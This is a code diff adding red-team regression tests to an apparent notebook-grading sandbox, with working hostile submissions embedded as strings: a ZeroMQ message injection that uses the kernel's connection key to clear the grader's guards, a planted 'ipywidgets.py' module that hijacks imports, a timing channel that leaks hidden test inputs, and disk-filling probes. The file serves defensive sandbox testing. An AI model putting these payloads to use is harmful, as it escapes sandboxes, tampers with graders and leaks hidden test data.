@@ -186,8 +186,9 @@ def hostile(paths: dict) -> dict:
             ),
         ),
         11,
-        "crashed",
-    )  # in its PID namespace it reaches nothing but its own kernel (the probe runs in a child)
+        "ok" if _child_signals_scoped() else "crashed",
+    )  # in its PID namespace it reaches nothing but its own kernel (the probe runs in a child);
+    # where the child's Landlock domain scopes signals (ABI >= 6, in bwrap) not even that
     add("vandal", with_function(nb, "01.distance", _vandal_source(paths)), 13)
     add(
         "forged_results",
@@ -606,7 +607,38 @@ def hostile_issue24(nb: dict) -> dict:
         sub = with_function(sub, "01.distance", CLONED_DISTANCE)
         sub = with_function(sub, "01.perceptron", CLONED_PERCEPTRON)
         add(name, sub, 9, **{"01.distance": 0, "01.perceptron": 0})
+    H.update(hostile_redteam2(nb, add))
     return H
+
+
+def _child_signals_scoped() -> bool:
+    """A probe's child may not signal the kernel: bwrap (so the child's writes are confined
+    by a Landlock domain of its own) and Landlock ABI >= 6 (signal scoping)."""
+    from kmlteach.course.grade._launcher import landlock_abi
+    from kmlteach.course.grade.sandbox import bwrap_problem
+
+    return bwrap_problem() is None and landlock_abi() >= 6
+
+
+def hostile_redteam2(nb: dict, add) -> dict:
+    """Red team 2's findings against the fork server (redteam2 branch, REPRO.md): a
+    probe's child reaching back into the kernel over its ZeroMQ sockets (the message key
+    is in the child's memory) or through a module planted on the kernel's sys.path; disk
+    and memory filled outside every limit; a hidden input sent out through the time."""
+    for name, cell in (("kernel_inject", RT2_INJECT), ("module_plant", RT2_PLANT)):
+        sub = with_cell(nb, cell, before="01.distance")
+        sub = with_function(sub, "01.distance", RT2_REF_DISTANCE)
+        sub = with_function(sub, "01.perceptron", RT2_REF_PERCEPTRON)
+        add(name, sub, 9, **{"01.distance": 0, "01.perceptron": 0})
+    # full marks only if every write outside the sized tmpfs mounts was refused
+    add(
+        "disk_escape",
+        with_function(with_cell(nb, RT2_FILL, before="01.distance"), "01.distance", RT2_FILL_FN),
+        13,
+    )
+    sub = with_cell(nb, RT2_TIMING, before="01.perceptron")
+    add("hidden_time_leak", with_function(sub, "01.perceptron", RT2_TIMING_FN), 13)
+    return {}
 
 
 CODE_CLONE = """
@@ -718,4 +750,124 @@ def _ask(name, *args):
         n = _struct.unpack("!I", c.recv(4, _socket.MSG_WAITALL))[0]
         return _pickle.loads(c.recv(n, _socket.MSG_WAITALL))
 """
+)
+
+# --- red team 2 (issue 24): the cells and functions of hostile_redteam2 ---------------
+RT2_INJECT = r"""
+def _rt_inject():
+    import json, os, time
+    try:
+        import zmq
+        from jupyter_client.session import Session
+        info = json.load(open(os.path.join(os.getcwd(), "connection.json")))
+    except Exception:
+        return
+    code = (
+        "for _k, _v in list(get_ipython().user_ns.items()):\n"
+        "    if _k.startswith('_kmlteach_probe_'):\n"
+        "        _fv = dict(zip(_v.__code__.co_freevars, _v.__closure__))\n"
+        "        _d = _fv['disarm'].cell_contents\n"
+        "        _dfv = dict(zip(_d.__code__.co_freevars, _d.__closure__))\n"
+        "        _dfv['guards'].cell_contents.clear()\n"
+        "open('INJECTED_RAN_IN_KERNEL_PID_%d' % __import__('os').getpid(), 'w').close()\n"
+    )
+    ctx = zmq.Context()
+    s = ctx.socket(zmq.DEALER)
+    addr = info["ip"] + "-" + str(info["shell_port"]) if info["transport"] == "ipc" else "%s:%d" % (info["ip"], info["shell_port"])
+    s.connect(info["transport"] + "://" + addr)
+    sess = Session(key=info["key"].encode(), signature_scheme=info["signature_scheme"])
+    sess.send(s, "execute_request", {"code": code, "silent": True, "store_history": False,
+              "user_expressions": {}, "allow_stdin": False, "stop_on_error": False})
+    time.sleep(0.3)
+    s.close(linger=2000)
+    ctx.term()
+    return 1
+_RT_OK = _rt_inject()  # bound, and read by the graded functions: the selection keeps it
+"""
+RT2_REF_DISTANCE = (
+    "def distance(x, w, b):\n    import kmlteach.svm as S\n    _RT_OK\n"
+    "    return float(S.distance_to_hyperplane(np.asarray(x, float)[None, :], w, b)[0])\n"
+)
+RT2_REF_PERCEPTRON = (
+    "def batch_perceptron(X, y):\n    import kmlteach.svm as S\n    _RT_OK\n    return S.perceptron(X, y).w\n"
+)
+
+
+RT2_PLANT = r'''
+def _rt_plant():
+    import os, sys
+    import kmlteach.widgets._base  # noqa: F401  (imports ipywidgets at its top; the reply's "imported" lists it)
+    with open("ipywidgets.py", "w") as fh:
+        fh.write(PLANTED)
+    return 1
+PLANTED = """
+import os, sys
+from IPython import get_ipython
+for _k, _v in list(get_ipython().user_ns.items()):
+    if _k.startswith('_kmlteach_probe_'):
+        _fv = dict(zip(_v.__code__.co_freevars, _v.__closure__))
+        _d = _fv['disarm'].cell_contents
+        _dfv = dict(zip(_d.__code__.co_freevars, _d.__closure__))
+        _dfv['guards'].cell_contents.clear()
+open('PLANTED_RAN_IN_KERNEL_PID_%d' % os.getpid(), 'w').close()
+del sys.modules['ipywidgets']
+_saved = sys.path[:]
+sys.path[:] = [p for p in sys.path if p not in ('', os.getcwd())]
+import ipywidgets as _real
+sys.path[:] = _saved
+sys.modules['ipywidgets'] = _real
+"""
+_RT_OK = _rt_plant()
+'''
+
+
+RT2_TIMING = r"""
+import sys, time
+def _rt_leak():
+    f = sys._getframe()
+    while f is not None:
+        p = f.f_locals.get("payload")
+        if isinstance(p, dict) and p.get("exercise") == "01.perceptron" and len(p["cases"]) == 5:
+            X = p["cases"][0][0]["T"][0]  # first hidden case, argument X (codec: {"A": [dtype, shape, b64]})
+            import base64, numpy as _np
+            a = _np.frombuffer(base64.b64decode(X["A"][2]), dtype=_np.dtype(X["A"][0]))
+            time.sleep(1.0 + 0.5 * (float(a[0]) + 2) + 2.0 * (float(a[1]) + 2))  # X[0] = (1, -1): 1 + 1.5 + 2 = 4.5 s
+            return 1
+        f = f.f_back
+    return 0
+_RT_LEAK = _rt_leak()
+"""
+
+
+RT2_TIMING_FN = (
+    "def batch_perceptron(X, y):\n    _RT_LEAK\n    w = np.zeros(X.shape[1])\n    while True:\n"
+    "        bad = np.flatnonzero(y * (X @ w) <= 0)\n        if bad.size == 0:\n            return w\n"
+    "        w = w + y[bad[0]] * X[bad[0]]\n"
+)
+RT2_FILL = r"""
+import os, sys
+def _rt2_fill():
+    ok = []
+    scratch = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # the kernel's folder (host disk)
+    try:
+        open(os.path.join(scratch, "escaped.bin"), "wb").write(b"x" * 1024)
+        ok.append(False)
+    except OSError:
+        ok.append(True)
+    for folder, cap_mb in ((os.getcwd(), 256), ("/dev/shm", 64)):  # cwd: a folder of /tmp
+        written, chunk = 0, b"x" * (1 << 20)
+        try:
+            for i in range(cap_mb + 64):
+                with open(os.path.join(folder, f"fill{i}"), "wb") as fh:
+                    fh.write(chunk)
+                written += 1
+        except OSError:
+            pass
+        ok.append(written <= cap_mb)
+    return all(ok)
+_RT2_CONTAINED = _rt2_fill()
+"""
+RT2_FILL_FN = (
+    "def distance(x, w, b):\n    if not _RT2_CONTAINED:\n        return -1.0\n"
+    "    return abs(np.dot(w, x) + b) / np.linalg.norm(w)\n"
 )
